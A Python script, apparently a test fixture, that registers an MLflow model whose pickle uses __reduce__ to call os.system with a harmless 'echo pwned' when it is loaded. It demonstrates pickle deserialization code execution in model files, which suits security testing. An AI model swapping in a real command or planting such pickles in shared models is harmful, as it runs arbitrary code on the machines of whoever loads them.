"""A third script: a scorecard that somebody found on the internet, registered as it came.

Its pickle calls a shell as soon as it is loaded. Nobody has to load it to register it, and this script does not: it
writes the bytes. The command prints a word and does nothing else.
"""

from __future__ import annotations

import os
import pickle
import tempfile
from pathlib import Path

import mlflow
from mlflow import MlflowClient

NAME = "downloaded-scorecard"
FLAVORS = """flavors:
  python_function:
    loader_module: mlflow.sklearn
    model_path: model.pkl
  sklearn:
    pickled_model: model.pkl
    serialization_format: pickle
"""


class Scorecard:
    """Looks like a model; what its pickle holds is a call."""

    def __reduce__(self) -> tuple[object, ...]:
        return (os.system, ("echo pwned",))


def register() -> str:
    """One run with two files, registered by its folder; the number of the version."""
    client = MlflowClient()
    with mlflow.start_run(run_name="downloaded") as run, tempfile.TemporaryDirectory() as scratch:
        (Path(scratch) / "MLmodel").write_text(FLAVORS, encoding="utf-8")
        (Path(scratch) / "model.pkl").write_bytes(pickle.dumps(Scorecard(), protocol=4))
        mlflow.log_artifacts(scratch, artifact_path="model")
        client.create_registered_model(NAME)
        version = client.create_model_version(
            NAME, source=f"{run.info.artifact_uri}/model", run_id=run.info.run_id
        )
    return str(version.version)
